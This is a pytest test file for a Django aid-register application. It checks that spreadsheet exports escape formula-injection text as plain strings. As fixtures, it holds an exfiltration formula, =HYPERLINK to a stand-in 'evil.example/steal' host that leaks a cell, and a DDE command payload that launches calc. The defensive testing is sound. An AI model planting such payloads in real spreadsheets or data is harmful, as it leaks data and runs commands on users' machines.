"""Issue #14 finding 6: a name like =HYPERLINK(…) stays text in every export, never a live formula.

The register, need and supply-list exports are downloaded through their pages, the way an office
does, and opened with openpyxl: every cell whose text starts with = + - @ tab or CR is stored as a
string that starts with an apostrophe, so Excel, WPS and LibreOffice show it and run nothing.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import export_workbook
from tests.factories import ResourceFactory, make_need, make_person

LINK = '=HYPERLINK("http://evil.example/steal?d="&A2,"点击查看")'


def cells(content: bytes) -> list[tuple[object, str]]:
    """(value, openpyxl's data type) of every cell of the first sheet."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]


def has_formula(content: bytes) -> bool:
    """Whether any cell of the saved file is a formula (<f> in the sheet XML)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def assert_escaped(content: bytes, text: str) -> None:
    assert not has_formula(content)
    found = [(value, kind) for value, kind in cells(content) if isinstance(value, str) and text in value]
    assert found, "the name is missing from the export"
    assert all(value == "'" + text and kind == "s" for value, kind in found), found


@pytest.mark.django_db
def test_the_register_and_need_exports_keep_a_formula_name_as_text(client, caseworker, world):
    person = make_person(world.our_village, name=LINK)
    make_need(person, description="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(caseworker)
    register = client.get(reverse("beneficiaries:person_export"))
    assert register.status_code == 200
    assert_escaped(register.content, LINK)
    needs = client.get(reverse("beneficiaries:need_export"))
    assert needs.status_code == 200
    assert_escaped(needs.content, LINK)
    assert_escaped(needs.content, "@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.mark.django_db
def test_the_supply_list_export_keeps_a_formula_name_as_text(client, caseworker, world):
    ResourceFactory.create(organization=world.charity, name='+HYPERLINK("http://evil.example")')
    client.force_login(caseworker)
    response = client.get("/supply/export.xlsx")
    assert response.status_code == 200
    assert_escaped(response.content, '+HYPERLINK("http://evil.example")')


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\tcmd", "\rcmd"])
def test_every_formula_start_is_escaped(text):
    content = export_workbook(title="导出", headers=["姓名"], rows=[[text]])
    assert not has_formula(content)
    value, kind = cells(content)[1]
    assert kind == "s" and value == "'" + text.replace("\r", "\n")  # XML reads a CR back as LF


def test_numbers_and_plain_text_are_left_as_they_are():
    content = export_workbook(title="导出", headers=["姓名", "金额", "电话"], rows=[["王秀英", -120.5, "139****4567"]])
    assert [value for value, _kind in cells(content)][3:] == ["王秀英", -120.5, "139****4567"]
